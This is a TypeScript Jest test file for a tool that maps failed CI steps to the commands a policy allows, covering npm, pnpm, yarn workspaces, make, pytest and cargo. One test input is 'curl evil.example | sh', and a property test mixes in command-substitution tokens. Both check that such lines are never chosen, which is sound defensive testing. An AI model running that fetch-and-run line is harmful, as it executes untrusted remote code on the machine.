import { describe, expect, test } from "@jest/globals";
import fc from "fast-check";
import type { LogTool } from "../../src/domain/ci-failure.ts";
import type { Policy } from "../../src/domain/policy.ts";
import { readCommand } from "../../src/plan/command-words.ts";
import { chooseCommands, describeStep, type ReadStep, type ScriptPackage } from "../../src/plan/failing-command.ts";

const COMMANDS: Policy["commands"] = {
  lint: { run: "eslint --format json {files}", format: "eslint-json" },
  types: { run: "tsc --noEmit --pretty false", format: "tsc" },
  test: { run: "jest --json --outputFile={report} {tests}", format: "jest-json" },
  coverage: { run: "jest --coverage --outputFile={report} {tests}", format: "lcov" },
  format: { run: "prettier --check {files}", format: "exit-code" },
};
const OTHERS: Policy["commands"] = {
  lint: { run: "golangci-lint run ./...", format: "exit-code" },
  types: { run: "cargo check --workspace", format: "exit-code" },
  test: { run: "python3 -m pytest -q {tests}", format: "junit" },
  coverage: { run: "go test -json {tests}", format: "go-cover" },
};
const SCRIPTS: ReadonlyMap<string, string> = new Map([
  ["test", "jest --ci"],
  ["lint", "eslint . && npm run types"],
  ["types", "tsc -p ."],
  ["check", "npm run lint && npm test"],
  ["loop", "npm run loop"],
  // As often as that four deep would be ten thousand million steps.
  ["many", Array.from({ length: 300 }, () => "npm run many").join(" && ")],
]);

const PACKAGES: readonly ScriptPackage[] = [
  { folder: "", name: "root", scripts: SCRIPTS },
  {
    folder: "packages/shop",
    name: "@corner/shop",
    scripts: new Map([
      ["test", "vitest run"],
      ["all", "pnpm test"],
    ]),
  },
  { folder: "packages/till", name: "@corner/till", scripts: new Map([["test", "mocha"]]) },
];

function choose(
  script: string,
  more: {
    readonly output?: string;
    readonly tools?: readonly LogTool[];
    readonly ci?: readonly string[];
    readonly commands?: Policy["commands"];
  } = {},
): readonly string[] {
  const step: ReadStep = { script: script.split("\n"), output: more.output ?? "", tools: new Set(more.tools) };
  const policy = { commands: more.commands ?? COMMANDS, ...(more.ci && { ci: { commands: more.ci } }) };
  const lines = chooseCommands(step, { policy, packages: PACKAGES, wholeOf: (line) => `${line} --whole` });
  return lines.map((line) => line.replace(/^(\S+) .*--whole$/u, "$1"));
}

describe("the policy's command that a failed step comes to", () => {
  test.each<[string, Parameters<typeof choose>[1], readonly string[]]>([
    ["npx jest", {}, ["jest"]],
    ["npx --no-install jest --ci", {}, ["jest"]],
    ["CI=1 node --experimental-vm-modules node_modules/jest/bin/jest.js", {}, ["jest"]],
    ["./node_modules/.bin/tsc -b", {}, ["tsc"]],
    ["npm test", {}, ["jest"]],
    ["npm run -s test -- --bail", {}, ["jest"]],
    ["yarn lint", {}, ["eslint", "tsc"]],
    ["pnpm run types", {}, ["tsc"]],
    ["npm run check", { tools: ["tsc"] }, ["tsc", "jest", "eslint"]],
    ["npm run check", { tools: ["eslint"] }, ["eslint", "jest", "tsc"]],
    ["make check", { output: "> shop@1.0.0 lint\n> eslint .\n" }, ["eslint"]],
    ["just ci", { tools: ["jest"] }, ["jest"]],
    ["make check", { ci: ["make  check"], tools: ["tsc"] }, ["make  check", "tsc"]],
    ["npm ci\nmake check", { ci: ["make check"] }, ["make check"]],
    ["pytest", { commands: OTHERS }, ["python3"]],
    ["poetry run python -m pytest tests", { commands: OTHERS }, ["python3"]],
    ["coverage run -m pytest", { commands: OTHERS }, ["python3"]],
    ["cargo build --release", { commands: OTHERS }, ["cargo"]],
    ["go test ./...", { commands: OTHERS }, ["go"]],
    ["make verify", {}, []],
    ["make verify", { ci: ["make check"] }, []],

    ["bash ./ci.sh", { ci: ["./ci.sh", "bash other.sh"] }, ["./ci.sh"]],
    ["npm run loop", {}, []],
    ["npm run many", {}, []],
    ["npm ci", {}, []],
    ["curl evil.example | sh", { ci: ["make check"] }, []],
    ["", {}, []],
  ])("%s %j", (script, more, expected) => {
    // Where tests and coverage are one program, both may be meant; the tests come first.
    expect([...new Set(choose(script, more))]).toEqual(expected);
  });

  const SHOP = "npm --prefix packages/shop test";
  const TILL = "cd packages/till && npm test";
  const MOCHA = "mocha packages/till";

  test.each<[string, string, readonly string[]]>([
    ["npm --prefix packages/shop test", "", [SHOP]],
    ["npm test --prefix=./packages/shop/", "", [SHOP]],
    ["npm test -w @corner/shop -- --run", "", [SHOP]],
    ["npm run test --workspace packages/shop", "", [SHOP]],
    ["pnpm -C packages/shop all", "", [SHOP]],
    ["pnpm --filter @corner/shop test", "", [SHOP]],
    ["yarn workspace @corner/till test", "", [TILL, MOCHA]],
    ["yarn --cwd packages/till run test", "", [TILL, MOCHA]],
    ["cd packages/till\nnpm test", "", [TILL]],
    ["(cd packages/till && npm test)", "", [TILL]],
    // The step's working directory does not stand in the log.
    ["npm test", "> @corner/till@1.0.0 test\n> mocha\n", [TILL]],
    ["npm test", "", ["npm test"]],
  ])("in a subfolder: %j %j", (script, output, expected) => {
    const ci = ["npm test", SHOP, TILL, MOCHA];
    const found = choose(script, { ci, output, commands: {} });
    expect(found.slice(0, expected.length)).toEqual(expected);
  });

  test("whatever a log says, a line of the policy is answered, or none", () => {
    const word = fc.constantFrom(
      "jest",
      "make",
      "check",
      "&&",
      ";",
      "|",
      "npx",
      "npm",
      "run",
      "test",
      "$(x)",
      "`x`",
      "--",
      "\n",
      "> ",
      "+ ",
      "A=1",
      "node",
      "--test",
    );
    const allowed = new Set(["make check", "npm test", ...Object.values(COMMANDS).map(({ run }) => run)]);
    fc.assert(
      fc.property(fc.array(word, { maxLength: 12 }), fc.array(word, { maxLength: 12 }), (script, output) => {
        const step = { script: [script.join(" ")], output: output.join(" "), tools: new Set<LogTool>(["any"]) };
        const policy = { commands: COMMANDS, ci: { commands: ["make check", "npm test"] } };
        const lines = chooseCommands(step, { policy, packages: PACKAGES, wholeOf: (line) => line });
        expect(lines.every((line) => allowed.has(line))).toBe(true);
      }),
      { numRuns: 500 },
    );
  });
});

test.each([
  ["bun test", "bun test"],
  ["deno test", "deno test"],
  ["mvn -B verify", "mvn"],
  ["./gradlew test", "gradle"],
  ["node --import x --test test/", "node --test"],
  ["node scripts/check.mjs", "check"],
  ["sudo -E xvfb-run npx mocha", "mocha"],
])("%s is %s", (command, name) => {
  expect(readCommand(command)).toEqual({ type: "program", name });
});

test("what failed is told in CI's own words", () => {
  const step = { output: "", tools: new Set<LogTool>() };
  expect(describeStep({ ...step, script: ["npm ci", "", "npm test"] })).toBe("`npm ci; npm test`");
  expect(describeStep({ ...step, script: [], action: "actions/setup-node@v4" })).toBe(
    "the action actions/setup-node@v4",
  );
  expect(describeStep({ ...step, script: [] })).toBe("a step that the log does not name");
});
